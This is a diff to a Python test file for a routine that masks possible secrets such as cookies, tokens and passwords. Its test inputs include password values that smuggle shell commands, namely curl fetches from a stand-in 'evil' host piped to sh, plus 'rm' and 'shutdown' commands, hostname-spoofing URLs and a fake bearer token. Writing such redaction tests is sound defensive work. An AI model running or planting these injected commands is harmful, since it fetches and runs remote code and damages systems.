@@ -155,6 +155,8 @@ def test_what_may_be_a_cookie_or_a_passphrase_is_masked():
         {"command": "deploy --token production"},
         {"command": "TOKEN=drop-database-customers-2024 run"},
         {"command": "rm sk-home-alice-documents-2024"},
+        {"url": "https://eyJabcdefgh.evil-example.com/"},
+        {"url": "https://good.example:evil.example@x/"},
         {"password": "x;{curl,-o,/tmp/x,http://evil};sh</tmp/x"},
         {"password": "x;curl$IFS//evil.example|sh"},
         {"password": "shutdown now"},
@@ -215,6 +217,7 @@ def test_a_whole_random_value_under_a_plain_name_may_stay_masked(given):
     "given",
     [
         {"command": f"curl --token {KEY}"},
+        {"command": "curl -H 'Authorization: Bearer sk-live-0123456789abcdef'"},
         {"url": "https://a:hunter2@b/"},
         {"password": "correct-horse"},
         {"pin": 1234},
